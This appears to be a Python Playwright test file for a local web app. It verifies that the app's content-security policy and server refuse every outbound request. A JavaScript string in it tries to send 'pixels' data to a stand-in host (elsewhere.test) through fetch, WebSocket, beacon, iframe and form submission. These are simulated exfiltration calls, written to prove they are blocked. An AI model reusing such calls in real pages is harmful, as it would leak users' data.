"""Nothing leaves the page: what it loads, what it may load, and what becomes of tries to send."""

from __future__ import annotations

import http.client
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

from edgeiqa import sample_paths

TRIES = """async (outside) => {
  const refused = [];
  addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
  const outcomes = {};
  const attempt = async (name, call) => {
    try { await call(); outcomes[name] = "went"; } catch { outcomes[name] = "refused"; }
  };
  const loaded = (element, key, value) => new Promise((done, fail) => {
    element.onload = done;
    element.onerror = fail;
    element[key] = value;
    document.body.append(element);
  });
  await attempt("fetch", () => fetch(outside, {method: "POST", body: "pixels", mode: "no-cors"}));
  await attempt("image", () => loaded(new Image(), "src", outside + "?pixels"));
  await attempt("script", () => loaded(document.createElement("script"), "src", outside));
  await attempt("style", () => {
    const link = document.createElement("link");
    link.rel = "stylesheet";
    return loaded(link, "href", outside);
  });
  await attempt("socket", () => new Promise((done, fail) => {
    const socket = new WebSocket(outside.replace("http", "ws"));
    socket.onopen = done;
    socket.onerror = fail;
  }));
  await attempt("worker", () => new Promise((done, fail) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = done;
    worker.onerror = fail;
  }));
  await attempt("eval", () => Promise.resolve(globalThis.eval("1")));
  navigator.sendBeacon(outside, "pixels");
  const frame = document.createElement("iframe");
  frame.src = outside;
  document.body.append(frame);
  const form = document.createElement("form");
  form.action = outside;
  form.method = "post";
  form.target = "elsewhere";
  document.body.append(form);
  form.submit();
  await new Promise(done => setTimeout(done, 500));
  return {outcomes, refused: [...new Set(refused)].sort()};
}"""


def test_a_session_loads_the_pages_own_files_and_sends_nothing(
    open_page: Callable[..., Any], url: str
) -> None:
    page = open_page()
    requests: list[Any] = []
    page.context.on("request", lambda request: requests.append(request))
    page.reload()
    page.wait_for_selector("html[data-ready]", timeout=60_000)
    page.set_input_files("#files-input", sample_paths()[:3])
    page.wait_for_selector("#rows tr:not(.none):nth-child(3)", timeout=60_000)
    page.select_option("#model", "nano")
    page.wait_for_selector('html[data-ready="nano"]')
    with page.expect_download():
        page.click("#csv")
    assert len(requests) > 10
    for request in requests:
        assert request.method == "GET"
        assert request.post_data is None
        address = request.url.removeprefix("blob:")
        assert urlsplit(address).netloc == urlsplit(url).netloc
        assert urlsplit(address).query == ""


def test_tries_to_send_are_refused(browser: Any, url: str) -> None:
    asked: list[str] = []
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    page.goto(url)
    page.wait_for_selector("html[data-ready]", timeout=60_000)

    def outside(route: Any) -> None:
        asked.append(route.request.url)
        route.fulfill(status=200, body="", headers={"Access-Control-Allow-Origin": "*"})

    context.route("http://elsewhere.test/**", outside)
    found = page.evaluate(TRIES, "http://elsewhere.test/take")
    context.close()
    assert set(found["outcomes"].values()) == {"refused"}, found["outcomes"]
    assert asked == []
    for directive in ("connect-src", "img-src", "script-src-elem", "style-src-elem", "form-action"):
        assert directive in found["refused"]


def test_the_worker_is_held_to_the_same(open_page: Callable[..., Any]) -> None:
    page = open_page()
    found = page.evaluate(
        """() => new Promise(done => {
          const worker = new Worker("/tests/leak.js");
          worker.onmessage = ({data}) => done(data);
        })"""
    )
    assert found == {"fetch": "refused", "eval": "refused", "importScripts": "refused"}


def test_policy_in_the_page_is_that_of_the_server(url: str) -> None:
    from edgeiqa.web.server import POLICY
    from edgeiqa.web.site import Site

    page = Site().files["index.html"].decode()
    meta = page.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
    # What only a header can say is missing in the page.
    assert {*POLICY.split("; ")} - {*meta.split("; ")} == {"frame-ancestors 'none'"}
    assert {*meta.split("; ")} <= {*POLICY.split("; ")}


def test_the_server_takes_nothing(url: str) -> None:
    place = urlsplit(url)
    for method in ("POST", "PUT", "PATCH", "DELETE", "OPTIONS"):
        connection = http.client.HTTPConnection(place.netloc, timeout=10)
        connection.request(method, "/", body=b"pixels")
        assert connection.getresponse().status == 501
        connection.close()
